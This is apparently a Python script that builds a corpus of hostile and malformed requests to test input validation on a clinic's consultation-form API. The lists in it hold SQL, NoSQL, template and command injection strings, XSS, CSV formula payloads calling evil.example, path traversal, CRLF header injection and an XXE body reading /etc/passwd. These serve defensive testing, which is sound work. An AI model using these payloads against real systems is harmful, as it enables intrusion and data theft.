"""Build ``nasty_inputs.json``: hostile and odd requests for POST /consultations, with what each must get.

Run ``.venv/bin/python tests/reliability/corpus/build_corpus.py`` after editing; the checked-in JSON must
equal this script's output (a test checks it). Each entry:

* ``id`` (unique), ``category``
* ``method`` (default POST), ``headers`` (Content-Type included when sent), and the body as ``body`` (text) or
  ``body_b64`` (raw bytes, for invalid UTF-8 and latin-1), plus ``is_base64_encoded`` (how API Gateway hands a
  binary body to Lambda)
* ``expect``: ``accept`` (201, or 303 for a form post without JSON ``Accept``), ``reject`` (a clean 4xx)
  or ``either`` (the contract leaves it open: 201/303 or a 4xx, never a 5xx); ``status`` when one code is
  required
* ``echo``: strings that must not appear in the response (body, decoded JSON, unescaped HTML, headers)

Expectations follow contract 2.1-2.3 and the documented decisions of ``leads_core.submission`` (names reject
control, bidi override and lone-surrogate characters; messages may hold line breaks; ``<``/``>`` are allowed
in names).
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

CORPUS_PATH = Path(__file__).with_name("nasty_inputs.json")

BASE: dict[str, Any] = {
    "first_name": "Avery",
    "last_name": "Quinlan",
    "email": "avery.quinlan@example.org",
    "phone": "(630) 555-0188",
    "preferred_contact": "email",
    "service": "anxiety",
    "message": "I would like to talk about stress at work.",
    "consent_privacy": True,
}
JSON_HEADERS = {"Content-Type": "application/json", "Accept": "application/json"}
FORM_HEADERS = {"Content-Type": "application/x-www-form-urlencoded", "Accept": "application/json"}

SQL = [
    "Robert'); DROP TABLE leads;--",
    "' OR '1'='1' --",
    "1; SELECT * FROM users WHERE 'a'='a",
    "admin'/*",
    '" OR ""="',
    "1' UNION SELECT password FROM accounts--",
    "'; EXEC xp_cmdshell('dir');--",
    "'||(SELECT pg_sleep(5))||'",
]
NOSQL_TEXT = [
    '{"$gt": ""}',
    '{"$where": "sleep(5000)"}',
    "'; return true; var x='",
    '{"$ne": null}',
]
TEMPLATE = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config.__class__.__init__.__globals__}}",
    "${jndi:ldap://evil.example/a}",
    "{% raw %}{{ self }}{% endraw %}",
    "$(touch /tmp/pwned)",
    "`id`",
]
HTML_JS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "<iframe src=//evil.example>",
    "</textarea><script>fetch('//evil.example')</script>",
    "&lt;b&gt;bold&lt;/b&gt;",
    '<!--#exec cmd="ls"-->',
]
CSV = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]
PATHS = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"]
FORMAT = ["%s%s%s%s%n", "%x%x%x%x", "{0.__class__}", "%(password)s"]

UNICODE_NAME_REJECT = {
    "rtl_override": "Ava\u202egnirts",
    "ltr_embedding": "Ava\u202aX\u202c",
    "isolate": "Ava\u2066X\u2069",
    "nul": "Ava\u0000Lee",
    "escape_char": "Ava\u001b[31mred",
    "bell": "Ava\u0007",
    "c1_control": "Ava\u0085Lee",
    "line_separator": "Ava\u2028Lee",
    "paragraph_separator": "Ava\u2029Lee",
    "tab": "Ava\tLee",
    "lone_high_surrogate": "Ava\ud800",
    "lone_low_surrogate": "\udfffAva",
    "reversed_surrogates": "Ava\udc00\ud800",
}
UNICODE_NAME_EITHER = {
    "zero_width_space": "Ava\u200bLee",
    "zero_width_joiner": "Ava\u200dLee",
    "bom_inside": "\ufeffAva",
    "combining_zalgo": "Z\u0337\u0322a\u0335l\u0338g\u0336o\u0334",
    "only_combining": "\u0301\u0301\u0301",
    "only_zero_width": "\u200b\u200b\u200b",
    "soft_hyphen": "Ava\u00adLee",
    "homoglyph_cyrillic": "\u0410v\u0430",
    "fullwidth": "\uff21\uff56\uff41",
    "private_use": "Ava\ue000",
    "noncharacter": "Ava\uffff",
    "replacement_char": "Ava\ufffd",
}
UNICODE_NAME_ACCEPT = {
    "emoji_zwj_family": "Ava \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "emoji_flag": "Ava \U0001f1fa\U0001f1f8",
    "rtl_arabic": "\u0639\u0644\u064a",
    "rtl_hebrew": "\u05d3\u05d5\u05d3",
    "cjk": "\u738b\u5c0f\u660e",
    "decomposed_accent": "Rene\u0301e",
    "astral_math": "\U0001d4d0\U0001d4f7\U0001d4ee",
    "lrm_mark": "Ava\u200eLee",
    "apostrophe_hyphen": "O'Brien-Smith",
}
UNICODE_MESSAGE = {
    "rtl_override": ("Please call \u202eevening\u202c only", "either"),
    "nul": ("Hello\u0000world, call me please", "reject"),
    "lone_surrogate": ("Hello \ud83d there", "either"),
    "emoji_zwj": ("Family \U0001f468\u200d\U0001f469\u200d\U0001f467 therapy please", "accept"),
    "crlf": ("Line one\r\nLine two\r\nLine three", "accept"),
    "cr_only": ("Line one\rLine two", "accept"),
    "vertical_tab": ("Line one\u000bLine two", "either"),
    "zero_width": ("Hel\u200blo th\u200bere", "either"),
    "combining_storm": ("a" + "\u0301" * 300, "either"),
    "escape_sequence": ("\u001b]0;pwned\u0007 please call", "reject"),
}


def entry(
    entry_id: str,
    category: str,
    expect: str,
    *,
    body: str | None = None,
    raw: bytes | None = None,
    headers: dict[str, str] | None = None,
    status: int | None = None,
    echo: list[str] | None = None,
    method: str = "POST",
    is_base64_encoded: bool = False,
) -> dict[str, Any]:
    item: dict[str, Any] = {"id": entry_id, "category": category, "method": method, "expect": expect}
    item["headers"] = dict(JSON_HEADERS if headers is None else headers)
    if raw is not None:
        item["body_b64"] = base64.b64encode(raw).decode("ascii")
    else:
        item["body"] = body
    item["is_base64_encoded"] = is_base64_encoded
    if status is not None:
        item["status"] = status
    item["echo"] = [value for value in (echo or []) if len(value.strip()) >= 5]
    return item


def lead(**changes: Any) -> dict[str, Any]:
    data = {**BASE, **changes}
    return {k: v for k, v in data.items() if v is not None}


def as_json(data: Any) -> str:
    return json.dumps(data, ensure_ascii=False)


def _reference_json() -> str:
    """The valid JSON body that the encoding and content-type entries alter."""
    return as_json(lead(first_name="Oakley"))


def build() -> list[dict[str, Any]]:
    return [item for section in _SECTIONS for item in section()]


def _valid() -> list[dict[str, Any]]:
    """Valid references."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    add(entry("valid-json", "valid", "accept", body=as_json(lead()), status=201))
    add(
        entry(
            "valid-json-charset",
            "valid",
            "accept",
            body=as_json(lead(first_name="Blair")),
            headers={**JSON_HEADERS, "Content-Type": "application/json; charset=utf-8"},
            status=201,
        )
    )
    add(
        entry(
            "valid-form-json-accept",
            "valid",
            "accept",
            headers=FORM_HEADERS,
            status=201,
            body=urlencode(
                {**{k: str(v) for k, v in lead(first_name="Casey").items()}, "consent_privacy": "on"}
            ),
        )
    )
    add(
        entry(
            "valid-form-redirect",
            "valid",
            "accept",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
            body=urlencode(
                {**{k: str(v) for k, v in lead(first_name="Devon").items()}, "consent_privacy": "yes"}
            ),
            status=303,
        )
    )
    add(
        entry(
            "valid-provider-referral",
            "valid",
            "accept",
            status=201,
            body=as_json(
                lead(
                    first_name="Emery",
                    email=None,
                    phone=None,
                    preferred_contact=None,
                    referral_type="provider",
                    provider_name="Dr. Morgan Hale",
                    provider_phone="(312) 555-0100",
                )
            ),
        )
    )
    add(
        entry(
            "valid-text-consent",
            "valid",
            "accept",
            status=201,
            body=as_json(lead(first_name="Finley", preferred_contact="text", consent_sms=True)),
        )
    )
    add(
        entry(
            "valid-crisis",
            "valid",
            "accept",
            status=201,
            body=as_json(lead(first_name="Gray", in_crisis=True, message="I do not feel safe tonight.")),
        )
    )
    add(
        entry(
            "valid-base64-json",
            "valid",
            "accept",
            status=201,
            raw=as_json(lead(first_name="Harper")).encode(),
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "valid-honeypot-spam",
            "spam",
            "accept",
            status=201,
            body=as_json(lead(first_name="Indigo", website="http://buy-cheap.example")),
        )
    )
    add(
        entry(
            "valid-spam-links",
            "spam",
            "accept",
            status=201,
            body=as_json(
                lead(
                    first_name="Jules",
                    message="cheap pills http://a.example http://b.example http://c.example",
                )
            ),
        )
    )
    return entries


def _injection() -> list[dict[str, Any]]:
    """Injection strings in free-text fields (valid leads: stored as typed, 201)."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    families = {
        "sql": SQL,
        "nosql": NOSQL_TEXT,
        "template": TEMPLATE,
        "html": HTML_JS,
        "csv": CSV,
        "path": PATHS,
        "format": FORMAT,
    }
    for family, strings in families.items():
        for number, text in enumerate(strings):
            add(
                entry(
                    f"{family}-{number:02d}-message",
                    f"injection/{family}",
                    "accept",
                    status=201,
                    body=as_json(lead(message=f"Please help. {text}")),
                    echo=[text],
                )
            )
            add(
                entry(
                    f"{family}-{number:02d}-last_name",
                    f"injection/{family}",
                    "accept",
                    status=201,
                    body=as_json(lead(last_name=text[:80])),
                    echo=[text[:80]],
                )
            )
            # Not an email, not a phone, not an enum value: always a clean 422.
            add(
                entry(
                    f"{family}-{number:02d}-email",
                    f"injection/{family}",
                    "reject",
                    status=422,
                    body=as_json(lead(email=text)),
                    echo=[text],
                )
            )
            add(
                entry(
                    f"{family}-{number:02d}-service",
                    f"injection/{family}",
                    "reject",
                    status=422,
                    body=as_json(lead(service=text)),
                    echo=[text],
                )
            )
        for number, text in enumerate(strings[:3]):
            add(
                entry(
                    f"{family}-{number:02d}-phone",
                    f"injection/{family}",
                    "reject",
                    status=422,
                    body=as_json(lead(phone=text, preferred_contact="phone")),
                    echo=[text],
                )
            )
            add(
                entry(
                    f"{family}-{number:02d}-utm",
                    f"injection/{family}",
                    "accept",
                    status=201,
                    body=as_json(lead(utm_source=text, heard_about=text[:100])),
                    echo=[text],
                )
            )
            add(
                entry(
                    f"{family}-{number:02d}-submission_id",
                    f"injection/{family}",
                    "reject",
                    status=422,
                    body=as_json(lead(submission_id=text)),
                    echo=[text],
                )
            )
            add(
                entry(
                    f"{family}-{number:02d}-form",
                    f"injection/{family}",
                    "accept",
                    status=201,
                    headers=FORM_HEADERS,
                    body=urlencode(
                        {
                            **{k: str(v) for k, v in lead(first_name=text[:80]).items()},
                            "consent_privacy": "on",
                        }
                    ),
                    echo=[text[:80]],
                )
            )
    return entries


def _nosql_operators() -> list[dict[str, Any]]:
    """NoSQL operators as structured values (never text: 422)."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    for number, value in enumerate([{"$gt": ""}, {"$ne": None}, {"$regex": ".*"}, ["$where", "1"]]):
        add(
            entry(
                f"nosql-object-{number:02d}-first_name",
                "injection/nosql",
                "reject",
                status=422,
                body=as_json(lead(first_name=value)),
            )
        )
        add(
            entry(
                f"nosql-object-{number:02d}-email",
                "injection/nosql",
                "reject",
                status=422,
                body=as_json(lead(email=value)),
            )
        )
    return entries


def _header_injection() -> list[dict[str, Any]]:
    """CRLF / header injection."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    crlf = "Avery\r\nSet-Cookie: session=evil"
    add(
        entry(
            "crlf-first_name",
            "injection/crlf",
            "reject",
            status=422,
            body=as_json(lead(first_name=crlf)),
            echo=["Set-Cookie: session=evil"],
        )
    )
    add(
        entry(
            "crlf-email",
            "injection/crlf",
            "reject",
            status=422,
            body=as_json(lead(email="a@example.org\r\nBcc: victim@example.org")),
            echo=["victim@example.org"],
        )
    )
    add(
        entry(
            "crlf-submission_id",
            "injection/crlf",
            "reject",
            status=422,
            body=as_json(lead(submission_id="abcdefgh\r\nLocation: http://evil.example")),
            echo=["http://evil.example"],
        )
    )
    add(
        entry(
            "crlf-form-redirect",
            "injection/crlf",
            "reject",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
            body=urlencode(
                {
                    **{k: str(v) for k, v in lead().items()},
                    "consent_privacy": "on",
                    "submission_id": "abcdefgh\r\nLocation: //evil.example",
                }
            ),
            echo=["//evil.example"],
        )
    )
    add(
        entry(
            "crlf-percent-encoded-name-form",
            "injection/crlf",
            "reject",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
            body="first_name=Avery%0d%0aX-Injected:%20yes&last_name=Quinlan&email=avery%40example.org"
            "&consent_privacy=on",
            echo=["X-Injected"],
        )
    )
    add(
        entry(
            "crlf-idempotency-header-value",
            "injection/crlf",
            "reject",
            headers={**JSON_HEADERS, "Idempotency-Key": "key with spaces and ; semicolons"},
            body=as_json(lead(first_name="Kai")),
            echo=["key with spaces and ; semicolons"],
        )
    )
    add(
        entry(
            "crlf-message-allowed",
            "injection/crlf",
            "accept",
            status=201,
            body=as_json(lead(message="Hi\r\nSet-Cookie: x=y\r\n\r\n<html>")),
            echo=["Set-Cookie: x=y"],
        )
    )
    return entries


def _unicode() -> list[dict[str, Any]]:
    """Unicode edge cases."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    for name, text in UNICODE_NAME_REJECT.items():
        add(
            entry(
                f"unicode-name-{name}",
                "unicode",
                "reject",
                status=422,
                body=json.dumps(lead(first_name=text)),
                echo=[text],
            )
        )
    for name, text in UNICODE_NAME_EITHER.items():
        add(
            entry(
                f"unicode-name-{name}",
                "unicode",
                "either",
                body=json.dumps(lead(first_name=text)),
                echo=[text],
            )
        )
    for name, text in UNICODE_NAME_ACCEPT.items():
        add(
            entry(
                f"unicode-name-{name}",
                "unicode",
                "accept",
                status=201,
                body=json.dumps(lead(first_name=text)),
                echo=[text],
            )
        )
    for name, (text, expect) in UNICODE_MESSAGE.items():
        add(
            entry(
                f"unicode-message-{name}",
                "unicode",
                expect,
                status=201 if expect == "accept" else None,
                body=json.dumps(lead(message=text)),
                echo=[text],
            )
        )
    add(
        entry("unicode-email-idn", "unicode", "either", body=as_json(lead(email="avery@b\u00fccher.example")))
    )
    add(
        entry(
            "unicode-email-homoglyph", "unicode", "either", body=as_json(lead(email="\u0430very@example.org"))
        )
    )
    add(entry("unicode-email-rtl", "unicode", "reject", body=as_json(lead(email="avery\u202e@example.org"))))
    add(
        entry(
            "unicode-email-nul",
            "unicode",
            "reject",
            status=422,
            body=json.dumps(lead(email="a\u0000@example.org")),
        )
    )
    add(
        entry(
            "unicode-phone-arabic-digits",
            "unicode",
            "either",
            body=as_json(lead(phone="\u0666\u0663\u0660 555 0188", preferred_contact="phone")),
        )
    )
    add(
        entry(
            "unicode-phone-fullwidth",
            "unicode",
            "either",
            body=as_json(lead(phone="\uff16\uff13\uff10\uff15\uff15\uff15\uff10\uff11\uff18\uff18")),
        )
    )
    add(
        entry(
            "unicode-escaped-surrogate-pair-ok",
            "unicode",
            "accept",
            status=201,
            body='{"first_name": "Ava \\ud83d\\ude00", "last_name": "Quinlan", "email": "ava@example.org",'
            ' "consent_privacy": true}',
        )
    )
    add(
        entry(
            "unicode-escaped-lone-surrogate",
            "unicode",
            "reject",
            status=422,
            body='{"first_name": "Ava\\udc00", "last_name": "Quinlan", "email": "ava@example.org",'
            ' "consent_privacy": true}',
        )
    )
    add(
        entry(
            "unicode-escaped-nul",
            "unicode",
            "reject",
            status=422,
            body='{"first_name": "Ava\\u0000", "last_name": "Quinlan", "email": "ava@example.org",'
            ' "consent_privacy": true}',
        )
    )
    add(
        entry(
            "unicode-field-name-nul",
            "unicode",
            "reject",
            status=422,
            body='{"first_name\\u0000": "Ava", "last_name": "Quinlan", "email": "ava@example.org",'
            ' "consent_privacy": true}',
        )
    )
    add(entry("unicode-enum-case-fold", "unicode", "either", body=as_json(lead(service="ANXIETY\u0130"))))
    return entries


def _oversize() -> list[dict[str, Any]]:
    """Oversize."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    add(
        entry("oversize-body-17k", "oversize", "reject", status=413, body=as_json(lead(message="x" * 17_000)))
    )
    add(
        entry("oversize-body-64k", "oversize", "reject", status=413, body=as_json(lead(message="y" * 65_536)))
    )
    add(
        entry(
            "oversize-multibyte-16k",
            "oversize",
            "reject",
            status=413,
            body=as_json(lead(message="\u00e9" * 9000)),
        )
    )
    add(
        entry(
            "oversize-form-body",
            "oversize",
            "reject",
            status=413,
            headers=FORM_HEADERS,
            body=urlencode({**{k: str(v) for k, v in lead().items()}, "message": "z" * 17_000}),
        )
    )
    add(
        entry(
            "oversize-message-2001", "oversize", "reject", status=422, body=as_json(lead(message="m" * 2001))
        )
    )
    add(
        entry(
            "oversize-message-2000-ok",
            "oversize",
            "accept",
            status=201,
            body=as_json(lead(first_name="Lane", message="m" * 2000)),
        )
    )
    add(
        entry(
            "oversize-first_name-81",
            "oversize",
            "reject",
            status=422,
            body=as_json(lead(first_name="N" * 81)),
        )
    )
    add(
        entry(
            "oversize-last_name-80-ok",
            "oversize",
            "accept",
            status=201,
            body=as_json(lead(last_name="L" * 80)),
        )
    )
    add(
        entry(
            "oversize-heard_about-101",
            "oversize",
            "reject",
            status=422,
            body=as_json(lead(heard_about="h" * 101)),
        )
    )
    add(entry("oversize-utm-501", "oversize", "reject", status=422, body=as_json(lead(utm_source="u" * 501))))
    add(
        entry(
            "oversize-email-300",
            "oversize",
            "reject",
            status=422,
            body=as_json(lead(email="a" * 290 + "@example.org")),
        )
    )
    add(
        entry(
            "oversize-phone-digits",
            "oversize",
            "reject",
            status=422,
            body=as_json(lead(phone="1" * 60, preferred_contact="phone")),
        )
    )
    add(
        entry(
            "oversize-many-unknown-fields",
            "oversize",
            "reject",
            status=422,
            body=as_json({**lead(), **{f"x{i}": "1" for i in range(900)}}),
        )
    )
    add(entry("oversize-deep-nesting-array", "oversize", "reject", body="[" * 6000 + "]" * 6000))
    add(entry("oversize-deep-nesting-object", "oversize", "reject", body='{"a":' * 3000 + "1" + "}" * 3000))
    add(
        entry(
            "oversize-deep-nesting-in-field",
            "oversize",
            "reject",
            body='{"first_name": ' + "[" * 5000 + "]" * 5000 + "}",
        )
    )
    add(entry("oversize-huge-integer", "oversize", "reject", body='{"first_name": ' + "9" * 5000 + "}"))
    add(entry("oversize-huge-float", "oversize", "reject", status=422, body='{"first_name": 1e999}'))
    add(entry("oversize-nan", "oversize", "reject", body='{"first_name": NaN, "consent_privacy": true}'))
    add(entry("oversize-infinity", "oversize", "reject", body='{"first_name": -Infinity}'))
    return entries


def _wrong_types() -> list[dict[str, Any]]:
    """Wrong types."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    wrong_values: dict[str, Any] = {
        "number": 42,
        "float": 4.2,
        "true": True,
        "list": ["Avery"],
        "object": {"value": "Avery"},
        "empty_list": [],
    }
    for field in ("first_name", "email", "phone", "message", "service", "submission_id"):
        for label, value in wrong_values.items():
            add(
                entry(
                    f"type-{field}-{label}",
                    "wrong-type",
                    "reject",
                    status=422,
                    body=as_json(lead(**{field: value}, preferred_contact="email")),
                )
            )
    for label, value in {
        "string_false": "false",
        "string_no": "no",
        "zero": 0,
        "maybe": "maybe",
        "list": [True],
        "null": None,
        "object": {"v": True},
    }.items():
        add(
            entry(
                f"type-consent_privacy-{label}",
                "wrong-type",
                "reject",
                status=422,
                body=as_json({**lead(), "consent_privacy": value}),
            )
        )
    add(
        entry(
            "type-consent_privacy-string_true",
            "wrong-type",
            "either",
            body=as_json({**lead(first_name="Morgan"), "consent_privacy": "true"}),
        )
    )
    add(
        entry(
            "type-in_crisis-string",
            "wrong-type",
            "either",
            body=as_json(lead(first_name="Nico", in_crisis="yes")),
        )
    )
    for label, text in {
        "array": "[]",
        "string": '"hello"',
        "number": "123",
        "null": "null",
        "true": "true",
        "empty_object": "{}",
        "array_of_lead": as_json([lead()]),
    }.items():
        add(entry(f"type-body-{label}", "wrong-type", "reject", body=text))
    add(
        entry(
            "type-unknown-field",
            "wrong-type",
            "reject",
            status=422,
            body=as_json({**lead(), "is_admin": True}),
        )
    )
    add(
        entry(
            "type-unknown-field-hostile-name",
            "wrong-type",
            "reject",
            status=422,
            body=as_json({**lead(), "<script>alert(1)</script>": "x", "'; DROP TABLE x;--": "y"}),
            echo=["<script>alert(1)</script>", "'; DROP TABLE x;--"],
        )
    )
    add(
        entry(
            "type-proto-pollution",
            "wrong-type",
            "reject",
            status=422,
            body=as_json({**lead(), "__proto__": {"admin": True}, "constructor": {"prototype": {}}}),
        )
    )
    return entries


def _odd_encodings() -> list[dict[str, Any]]:
    """Odd encodings."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    valid_json = _reference_json()
    add(
        entry(
            "encoding-invalid-utf8-json",
            "encoding",
            "reject",
            status=400,
            raw=b'{"first_name": "Av\xff\xfe", "last_name": "Q", "consent_privacy": true}',
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "encoding-invalid-utf8-overlong",
            "encoding",
            "reject",
            raw=b'{"first_name": "Av\xc0\xae", "last_name": "Q"}',
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "encoding-latin1-raw-json",
            "encoding",
            "reject",
            raw=as_json(lead(first_name="Ren\u00e9e")).encode("latin-1"),
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "encoding-latin1-raw-form",
            "encoding",
            "reject",
            headers=FORM_HEADERS,
            is_base64_encoded=True,
            raw=b"first_name=Ren\xe9e&last_name=Quinlan&email=r%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-latin1-percent-form",
            "encoding",
            "reject",
            headers=FORM_HEADERS,
            body="first_name=Ren%E9e&last_name=Quinlan&email=r%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-overlong-percent-form",
            "encoding",
            "reject",
            headers=FORM_HEADERS,
            body="first_name=%C0%AE%C0%AE&last_name=Quinlan&email=r%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-nul-percent-form",
            "encoding",
            "reject",
            headers=FORM_HEADERS,
            body="first_name=Ava%00Lee&last_name=Quinlan&email=r%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-double-percent-form",
            "encoding",
            "either",
            headers=FORM_HEADERS,
            body="first_name=Ava%252e%252e&last_name=Quinlan&email=r%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-bare-percent-form",
            "encoding",
            "either",
            headers=FORM_HEADERS,
            body="first_name=100%&last_name=Quinlan&email=r%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-plus-as-space-form",
            "encoding",
            "accept",
            status=201,
            headers=FORM_HEADERS,
            body="first_name=Mary+Ann&last_name=Quinlan&email=mary%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-utf8-percent-form",
            "encoding",
            "accept",
            status=201,
            headers=FORM_HEADERS,
            body="first_name=Ren%C3%A9e&last_name=Quinlan&email=renee%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-semicolon-separator-form",
            "encoding",
            "either",
            headers=FORM_HEADERS,
            body="first_name=Ava;last_name=Quinlan;email=ava%40example.org;consent_privacy=on",
        )
    )
    add(entry("encoding-json-sent-as-form", "encoding", "reject", headers=FORM_HEADERS, body=valid_json))
    add(
        entry(
            "encoding-form-sent-as-json",
            "encoding",
            "reject",
            status=400,
            body="first_name=Ava&last_name=Quinlan&consent_privacy=on",
        )
    )
    add(
        entry(
            "encoding-base64-flag-invalid",
            "encoding",
            "reject",
            body="!!!not base64!!!",
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "encoding-base64-without-flag",
            "encoding",
            "reject",
            status=400,
            body=base64.b64encode(valid_json.encode()).decode(),
        )
    )
    add(
        entry(
            "encoding-base64-form",
            "encoding",
            "accept",
            status=201,
            headers=FORM_HEADERS,
            raw=b"first_name=Quinn&last_name=Avery&email=quinn%40example.org&consent_privacy=on",
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "encoding-utf16-json",
            "encoding",
            "either",
            raw=valid_json.encode("utf-16"),
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "encoding-utf8-bom-json",
            "encoding",
            "either",
            raw=b"\xef\xbb\xbf" + valid_json.encode(),
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "encoding-gzip-claimed",
            "encoding",
            "reject",
            headers={**JSON_HEADERS, "Content-Encoding": "gzip"},
            raw=b"\x1f\x8b\x08\x00garbage",
            is_base64_encoded=True,
        )
    )
    add(entry("encoding-truncated-json", "encoding", "reject", status=400, body=valid_json[:-7]))
    add(entry("encoding-trailing-garbage", "encoding", "reject", status=400, body=valid_json + "garbage"))
    add(entry("encoding-two-objects", "encoding", "reject", status=400, body=valid_json + valid_json))
    add(entry("encoding-single-quotes", "encoding", "reject", status=400, body=valid_json.replace('"', "'")))
    add(entry("encoding-comments", "encoding", "reject", status=400, body="/* hi */" + valid_json))
    add(entry("encoding-empty-body", "encoding", "reject", body=""))
    add(entry("encoding-whitespace-body", "encoding", "reject", body="   \n\t  "))
    add(entry("encoding-no-body", "encoding", "reject", body=None))
    add(entry("encoding-nul-bytes-body", "encoding", "reject", raw=b"\x00" * 64, is_base64_encoded=True))
    add(
        entry(
            "encoding-charset-latin1-declared",
            "encoding",
            "either",
            headers={**JSON_HEADERS, "Content-Type": "application/json; charset=iso-8859-1"},
            raw=valid_json.encode("latin-1", "replace"),
            is_base64_encoded=True,
        )
    )
    add(
        entry(
            "encoding-urlencoded-in-json-field",
            "encoding",
            "reject",
            status=422,
            body=as_json(lead(email=quote("ava@example.org\r\n"))),
        )
    )
    return entries


def _content_types() -> list[dict[str, Any]]:
    """Content types."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    valid_json = _reference_json()
    for label, content_type in {
        "text-plain": "text/plain",
        "xml": "application/xml",
        "html": "text/html",
        "multipart": "multipart/form-data; boundary=xyz",
        "octet": "application/octet-stream",
        "json-typo": "application/jsonp",
        "json-suffix-evil": "application/json-evil",
        "csv": "text/csv",
        "wildcard": "*/*",
        "garbage": "\u00ff\u00fe;;;",
    }.items():
        add(
            entry(
                f"content-type-{label}",
                "content-type",
                "reject",
                status=415,
                headers={"Content-Type": content_type, "Accept": "application/json"},
                body=valid_json,
            )
        )
    add(
        entry(
            "content-type-missing",
            "content-type",
            "reject",
            headers={"Accept": "application/json"},
            body=valid_json,
        )
    )
    add(
        entry(
            "content-type-upper-case",
            "content-type",
            "either",
            headers={"Content-Type": "APPLICATION/JSON", "Accept": "application/json"},
            body=as_json(lead(first_name="Parker")),
        )
    )
    add(
        entry(
            "content-type-xml-body",
            "content-type",
            "reject",
            status=415,
            headers={"Content-Type": "application/xml"},
            body='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        )
    )
    return entries


def _duplicate_keys() -> list[dict[str, Any]]:
    """Duplicate keys."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    add(
        entry(
            "duplicate-json-first_name",
            "duplicate-keys",
            "either",
            body='{"first_name": "Riley", "first_name": "<script>x</script>", "last_name": "Quinlan",'
            ' "email": "riley@example.org", "consent_privacy": true}',
            echo=["<script>x</script>"],
        )
    )
    add(
        entry(
            "duplicate-json-consent",
            "duplicate-keys",
            "either",
            body='{"first_name": "Sage", "last_name": "Quinlan", "email": "sage@example.org",'
            ' "consent_privacy": false, "consent_privacy": true}',
        )
    )
    add(
        entry(
            "duplicate-form-first_name",
            "duplicate-keys",
            "reject",
            status=422,
            headers=FORM_HEADERS,
            body="first_name=Tatum&first_name=Evil&last_name=Quinlan&email=t%40example.org&consent_privacy=on",
        )
    )
    add(
        entry(
            "duplicate-form-consent",
            "duplicate-keys",
            "reject",
            status=422,
            headers=FORM_HEADERS,
            body="first_name=Tatum&last_name=Quinlan&email=t%40example.org&consent_privacy=on&consent_privacy=off",
        )
    )
    add(
        entry(
            "duplicate-form-array-syntax",
            "duplicate-keys",
            "reject",
            status=422,
            headers=FORM_HEADERS,
            body="first_name[]=Tatum&first_name[]=Evil&last_name=Quinlan&email=t%40example.org&consent_privacy=on",
        )
    )
    return entries


def _origins_methods_keys() -> list[dict[str, Any]]:
    """Origins, methods, keys."""
    entries: list[dict[str, Any]] = []
    add = entries.append
    add(
        entry(
            "origin-evil",
            "origin",
            "reject",
            status=403,
            headers={**JSON_HEADERS, "Origin": "https://evil.example"},
            body=as_json(lead(first_name="Uma")),
        )
    )
    add(
        entry(
            "origin-null",
            "origin",
            "reject",
            status=403,
            headers={**JSON_HEADERS, "Origin": "null"},
            body=as_json(lead(first_name="Uma")),
        )
    )
    add(
        entry(
            "origin-suffix-trick",
            "origin",
            "reject",
            status=403,
            headers={**JSON_HEADERS, "Origin": "https://www.example-clinic.com.evil.example"},
            body=as_json(lead(first_name="Uma")),
        )
    )
    add(
        entry(
            "origin-prefix-trick",
            "origin",
            "reject",
            status=403,
            headers={**JSON_HEADERS, "Origin": "https://evilwww.example-clinic.com"},
            body=as_json(lead(first_name="Uma")),
        )
    )
    add(
        entry(
            "origin-scheme-downgrade",
            "origin",
            "reject",
            status=403,
            headers={**JSON_HEADERS, "Origin": "http://www.example-clinic.com"},
            body=as_json(lead(first_name="Uma")),
        )
    )
    add(
        entry(
            "origin-allowed",
            "origin",
            "accept",
            status=201,
            headers={**JSON_HEADERS, "Origin": "https://www.example-clinic.com"},
            body=as_json(lead(first_name="Vale")),
        )
    )
    add(
        entry(
            "preflight-evil",
            "origin",
            "reject",
            status=403,
            method="OPTIONS",
            body=None,
            headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"},
        )
    )
    add(
        entry(
            "key-too-short",
            "idempotency",
            "reject",
            status=422,
            headers={**JSON_HEADERS, "Idempotency-Key": "abc"},
            body=as_json(lead(first_name="Wren")),
        )
    )
    add(
        entry(
            "key-too-long",
            "idempotency",
            "reject",
            status=422,
